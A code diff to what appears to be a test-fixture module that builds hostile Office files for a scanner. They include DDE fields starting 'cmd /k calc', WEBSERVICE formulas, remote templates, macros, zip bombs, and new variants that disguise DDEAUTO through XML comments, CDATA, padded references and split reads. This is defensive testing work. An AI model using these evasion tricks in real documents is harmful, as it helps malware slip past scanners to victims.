@@ -10,9 +10,23 @@ const outside = (type: string) =>
 const object = () => oldOffice('\x01Ole10Native')
 const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
 const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-const sheet = (formula: string) => office('xlsx', { 'xl/worksheets/sheet1.xml': `<c><f>${formula}</f></c>` })
+const DOCUMENT = 'word/_rels/document.xml.rels'
+const WORKBOOK = 'xl/_rels/workbook.xml.rels'
 
 type Made = readonly [kind: 'docx' | 'xlsx' | 'pptx' | 'doc' | 'xls' | 'ppt', bytes: () => Buffer]
+type Part = string | Uint8Array
+
+/** A document of the new kind that has this part. */
+const having = (kind: 'docx' | 'xlsx' | 'pptx', name: string, part: Part | (() => Part)): Made => [
+  kind,
+  () => office(kind, { [name]: typeof part === 'function' ? part() : part }),
+]
+const sheet = (formula: string) => having('xlsx', 'xl/worksheets/sheet1.xml', `<c><f>${formula}</f></c>`)
+/** A document of the old kind of these streams. */
+const old = (kind: 'doc' | 'xls' | 'ppt', streams: Record<string, Uint8Array>): Made => [
+  kind,
+  () => compound(streams),
+]
 
 export const HOSTILE_OFFICE: Record<string, Made> = {
   'a template elsewhere': ['docx', () => outside('attachedTemplate')],
@@ -24,55 +38,39 @@ export const HOSTILE_OFFICE: Record<string, Made> = {
       ]),
   ],
   'a frame elsewhere': ['docx', () => outside('frame')],
-  'a template elsewhere, in other quotes': [
+  'a template elsewhere, in other quotes': having(
     'docx',
-    () =>
-      office('docx', {
-        'word/_rels/settings.xml.rels': `<a:Relationships xmlns:a='x'><a:Relationship TargetMode = 'External' Id='r' Type='${OFFICE}/attachedTemplate' Target='https://host.example'/></a:Relationships>`,
-      }),
-  ],
-  'a list of parts in another encoding': [
+    'word/_rels/settings.xml.rels',
+    `<a:Relationships xmlns:a='x'><a:Relationship TargetMode = 'External' Id='r' Type='${OFFICE}/attachedTemplate' Target='https://host.example'/></a:Relationships>`,
+  ),
+  'a list of parts in another encoding': having(
     'docx',
-    () =>
-      office('docx', {
-        'word/_rels/document.xml.rels': Buffer.from(
-          `\ufeff${relations(`${OFFICE}/attachedTemplate`, 'https://host.example', ' TargetMode="External"')}`,
-          'utf16le',
-        ),
-      }),
-  ],
-  'another document taken in': [
+    DOCUMENT,
+    Buffer.from(
+      `\ufeff${relations(`${OFFICE}/attachedTemplate`, 'https://host.example', ' TargetMode="External"')}`,
+      'utf16le',
+    ),
+  ),
+  'another document taken in': having('docx', DOCUMENT, relations(`${OFFICE}/aFChunk`, 'a.html')),
+  'an object of another program': having(
     'docx',
-    () => office('docx', { 'word/_rels/document.xml.rels': relations(`${OFFICE}/aFChunk`, 'a.html') }),
-  ],
-  'an object of another program': [
-    'docx',
-    () =>
-      office('docx', {
-        'word/_rels/document.xml.rels': relations(`${OFFICE}/oleObject`, 'embeddings/a.bin'),
-      }),
-  ],
-  'an object by any name': ['pptx', () => office('pptx', { 'ppt/media/image1.png': object() })],
-  'a control': ['docx', () => office('docx', { 'word/activeX/activeX1.xml': '<ax:ocx/>' })],
-  macros: ['xlsx', () => office('xlsx', { 'xl/vbaProject.bin': object() })],
-  'a sheet of Excel 4 macros': [
+    DOCUMENT,
+    relations(`${OFFICE}/oleObject`, 'embeddings/a.bin'),
+  ),
+  'an object by any name': having('pptx', 'ppt/media/image1.png', object),
+  'a control': having('docx', 'word/activeX/activeX1.xml', '<ax:ocx/>'),
+  macros: having('xlsx', 'xl/vbaProject.bin', object),
+  'a sheet of Excel 4 macros': having(
     'xlsx',
-    () =>
-      office('xlsx', {
-        'xl/_rels/workbook.xml.rels': relations(
-          'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
-          'x/sheet1.xml',
-        ),
-      }),
-  ],
-  'macros in a document within': [
+    WORKBOOK,
+    relations('http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'x/sheet1.xml'),
+  ),
+  'macros in a document within': having(
     'docx',
-    () => office('docx', { 'word/embeddings/a.xlsx': office('xlsx', { 'xl/vbaProject.bin': 'x' }) }),
-  ],
-  'documents within documents': [
-    'docx',
-    () => office('docx', { 'a.xlsx': office('xlsx', { 'b.xlsx': office('xlsx') }) }),
-  ],
+    'word/embeddings/a.xlsx',
+    office('xlsx', { 'xl/vbaProject.bin': 'x' }),
+  ),
+  'documents within documents': having('docx', 'a.xlsx', office('xlsx', { 'b.xlsx': office('xlsx') })),
   'a field that starts a program': [
     'docx',
     () => docx(['a'], field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
@@ -85,75 +83,43 @@ export const HOSTILE_OFFICE: Record<string, Made> = {
     'docx',
     () => docx(['a'], '<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'),
   ],
-  'a link to another program': [
+  'a link to another program': having(
     'xlsx',
-    () =>
-      office('xlsx', {
-        'xl/externalLinks/externalLink1.xml':
-          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
-      }),
-  ],
-  'a formula that fetches': ['xlsx', () => sheet('W&#69;BSERVICE("https://host.example")')],
-  'a connection to data': [
-    'xlsx',
-    () =>
-      office('xlsx', { 'xl/_rels/workbook.xml.rels': relations(`${OFFICE}/connections`, 'connections.xml') }),
-  ],
-  'an archive that unpacks to too much': [
-    'xlsx',
-    () => office('xlsx', { 'a.xml': Buffer.alloc(90 * 1024 * 1024) }),
-  ],
+    'xl/externalLinks/externalLink1.xml',
+    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+  ),
+  'a formula that fetches': sheet('W&#69;BSERVICE("https://host.example")'),
+  'a connection to data': having('xlsx', WORKBOOK, relations(`${OFFICE}/connections`, 'connections.xml')),
+  'an archive that unpacks to too much': having('xlsx', 'a.xml', () => Buffer.alloc(90 * 1024 * 1024)),
   'old macros': ['doc', () => oldOffice('WordDocument', 'Macros')],
   'old objects of other programs': ['doc', () => oldOffice('WordDocument', 'ObjectPool')],
-  'an old field that starts a program': [
-    'doc',
-    () => compound({ WordDocument: Buffer.from('a \x13 DDEAUTO cmd \x15', 'utf16le') }),
-  ],
-  'an old template elsewhere': [
-    'doc',
-    () =>
-      compound({
-        WordDocument: Buffer.alloc(64),
-        '1Table': Buffer.from('a%https://host.example/a.dotm\0', 'utf16le'),
-      }),
-  ],
-  'an old document with a password': [
-    'doc',
-    () => compound({ WordDocument: Buffer.alloc(64).fill(1, 10, 12) }),
-  ],
-  'an old sheet of Excel 4 macros': [
-    'xls',
-    () =>
-      compound({
-        Workbook: Buffer.concat([
-          record(0x809, Buffer.alloc(16)),
-          record(0x85, Buffer.from([0, 0, 0, 0, 2, 1, 1, 0, 65])),
-        ]),
-      }),
-  ],
-  'an old sheet of Excel 4 macros, not listed': [
-    'xls',
-    () => compound({ Book: record(0x809, Buffer.from([0, 6, 0x40, 0])) }),
-  ],
-  'an old link to another program': [
-    'xls',
-    () => compound({ Workbook: record(0x1ae, Buffer.from('\x01\0\x08\0\0cmd\x03/c x', 'latin1')) }),
-  ],
-  'an old workbook with a password': ['xls', () => compound({ Workbook: record(0x2f, Buffer.alloc(6)) })],
-  'old slides with objects': [
-    'ppt',
-    () =>
-      compound({
-        'PowerPoint Document': slide(0x3e8, slide(0x409, slide(0xfcc, Buffer.alloc(8), true), true), true),
-      }),
-  ],
-  'old slides with macros': [
-    'ppt',
-    () =>
-      compound({
-        'PowerPoint Document': slide(0x3ff, slide(0x400, Buffer.from([1, 0, 0, 0, 1, 0, 0, 0])), true),
-      }),
-  ],
+  'an old field that starts a program': old('doc', {
+    WordDocument: Buffer.from('a \x13 DDEAUTO cmd \x15', 'utf16le'),
+  }),
+  'an old template elsewhere': old('doc', {
+    WordDocument: Buffer.alloc(64),
+    '1Table': Buffer.from('a%https://host.example/a.dotm\0', 'utf16le'),
+  }),
+  'an old document with a password': old('doc', { WordDocument: Buffer.alloc(64).fill(1, 10, 12) }),
+  'an old sheet of Excel 4 macros': old('xls', {
+    Workbook: Buffer.concat([
+      record(0x809, Buffer.alloc(16)),
+      record(0x85, Buffer.from([0, 0, 0, 0, 2, 1, 1, 0, 65])),
+    ]),
+  }),
+  'an old sheet of Excel 4 macros, not listed': old('xls', {
+    Book: record(0x809, Buffer.from([0, 6, 0x40, 0])),
+  }),
+  'an old link to another program': old('xls', {
+    Workbook: record(0x1ae, Buffer.from('\x01\0\x08\0\0cmd\x03/c x', 'latin1')),
+  }),
+  'an old workbook with a password': old('xls', { Workbook: record(0x2f, Buffer.alloc(6)) }),
+  'old slides with objects': old('ppt', {
+    'PowerPoint Document': slide(0x3e8, slide(0x409, slide(0xfcc, Buffer.alloc(8), true), true), true),
+  }),
+  'old slides with macros': old('ppt', {
+    'PowerPoint Document': slide(0x3ff, slide(0x400, Buffer.from([1, 0, 0, 0, 1, 0, 0, 0])), true),
+  }),
   'a directory without end': [
     'xls',
     () => {
@@ -173,3 +139,39 @@ export const HOSTILE_OFFICE: Record<string, Made> = {
     },
   ],
 }
+
+const relationship = (tag: string) =>
+  `<x:Relationships xmlns:x='x'><${tag} Id="r" TargetMode="External" Target="https://host.example/a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></x:Relationships>`
+
+/** A Word document with a field in pieces that are far from each other. */
+const spreadAt = (position: number) => {
+  const empty = (bytes: number) => '<w:r/>'.repeat(bytes / 6)
+  const field = `${begin}${empty(900)}${run('D')}${empty(3000)}${run('DEAUTO cmd')}`
+  return docx([], `<w:p>${empty(position)}${field}</w:p>`)
+}
+
+/** Documents that start programs or load what is elsewhere by a field, each disguised by what XML allows. */
+export const HOSTILE_FIELDS: Record<string, () => Buffer> = {
+  'in a section of characters': () => docx([], `<w:p>${begin}${run('<![CDATA[DDEAUTO cmd]]>')}</w:p>`),
+  'with a comment in it': () => docx([], `<w:p>${begin}${run('D<!-- -->DEAUTO cmd')}</w:p>`),
+  'with a long attribute': () =>
+    docx([], `<w:p><w:r><w:instrText xmlns:a="${'a'.repeat(400)}">DDEAUTO cmd</w:instrText></w:r></w:p>`),
+  'with a sign of its end in an attribute': () =>
+    docx([], `<w:p><w:r><w:instrText xmlns:a=">">DDEAUTO cmd</w:instrText></w:r></w:p>`),
+  'as an attribute with much space': () => docx([], '<w:p><w:fldSimple w:instr  =  "DDE cmd"/></w:p>'),
+  'by references with many zeros': () =>
+    docx([], `<w:p>${begin}${run(`&#x${'0'.repeat(30)}44;DEAUTO cmd`)}</w:p>`),
+  'by another prefix': () =>
+    docx([], '<w:p><é:instrText xmlns:é="http://schemas.openxmlformats.org/x">DDE cmd</é:instrText></w:p>'),
+  'after another field': () =>
+    docx([], `<w:p>${begin}${run('PAGE ')}${begin.replace('="', '  =  "')}${run('DDEAUTO cmd')}</w:p>`),
+  'whose list of parts has another prefix': () =>
+    office('docx', { 'word/_rels/settings.xml.rels': relationship('x-1.a:Relationship') }),
+  'whose formula has a comment in it': () =>
+    office('xlsx', {
+      'xl/worksheets/sheet1.xml': '<c><f>WEB<!-- -->SERVICE("https://host.example")</f></c>',
+    }),
+}
+/** Where a large part is divided for reading. */
+for (const before of [600, 1200, 2400])
+  HOSTILE_FIELDS[`in pieces, ${before} bytes before a mebibyte`] = () => spreadAt(1024 * 1024 - before)
